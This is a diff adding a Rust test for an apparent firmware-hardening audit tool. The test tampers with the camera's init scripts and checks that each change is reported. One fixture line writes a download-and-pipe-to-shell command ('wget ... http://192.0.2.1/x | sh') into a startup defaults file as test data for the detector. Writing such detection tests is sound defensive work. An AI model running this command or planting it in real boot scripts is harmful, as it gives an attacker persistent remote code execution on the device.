@@ -439,6 +439,66 @@ fn planted_files_are_found() {
 }
 
 #[test]
+fn lenscaps_own_scripts_are_known_and_not_what_has_their_names() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("busybox");
+    camera.write(
+        "proc/mounts",
+        "overlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n",
+    );
+    camera.write("rom/etc/inittab", "");
+    let root = camera.0.path().to_str().unwrap();
+    run(LENSCAP, &["harden", "--root", root, "--password", "lock"]);
+    for entry in fs::read_dir(camera.path("etc/init.d")).unwrap() {
+        let name = entry.unwrap().file_name().into_string().unwrap();
+        camera.write(&format!("rom/etc/init.d/{name}"), "#!/bin/sh\n");
+    }
+    camera.audit(&["--accept"]);
+    assert!(camera.path("etc/lenscap/audit.baseline").exists());
+    let put = |path: &str, text: &[u8]| {
+        camera.write(path, text);
+        camera.write(&format!("overlay/upper/{path}"), text);
+    };
+    let packed = |name: &str| fs::read(workspace().join("buildroot-ext/package/lenscap").join(name)).unwrap();
+    for name in ["S34lenscap", "S60lenscap"] {
+        put(&format!("etc/init.d/{name}"), &packed(name));
+    }
+    let report = camera.report();
+    for id in ["start.added", "start.drift"] {
+        assert_eq!(verdict(&report, id), "pass", "{}", rule(&report, id));
+    }
+    // Whoever changes one, or has its name or its content alone, is told.
+    put(
+        "etc/init.d/S60lenscap",
+        &[packed("S60lenscap"), b"/tmp/x &\n".to_vec()].concat(),
+    );
+    put("etc/init.d/S61lenscap", &packed("S60lenscap"));
+    put("etc/init.d/lenscap", b"#!/bin/sh\n: x\n");
+    // S34lenscap and S60lenscap read this one.
+    put(
+        "etc/default/lenscap",
+        b"/usr/bin/wget -qO- http://192.0.2.1/x | sh\n",
+    );
+    let report = camera.report();
+    for id in ["start.added", "start.drift"] {
+        assert_eq!(verdict(&report, id), "fail");
+        let told = evidence(&report, id);
+        for path in [
+            "init.d/S60lenscap",
+            "init.d/S61lenscap",
+            "init.d/lenscap",
+            "default/lenscap",
+        ] {
+            assert!(told.contains(&format!("/etc/{path}")), "{id}: {path}: {told}");
+        }
+        assert!(!told.contains("S34lenscap"), "{id}: {told}");
+    }
+    assert!(evidence(&report, "start.download").contains("/etc/default/lenscap:1"));
+}
+
+#[test]
 fn who_listens_without_a_process_hides_or_is_the_kernel() {
     if without_root() {
         return;
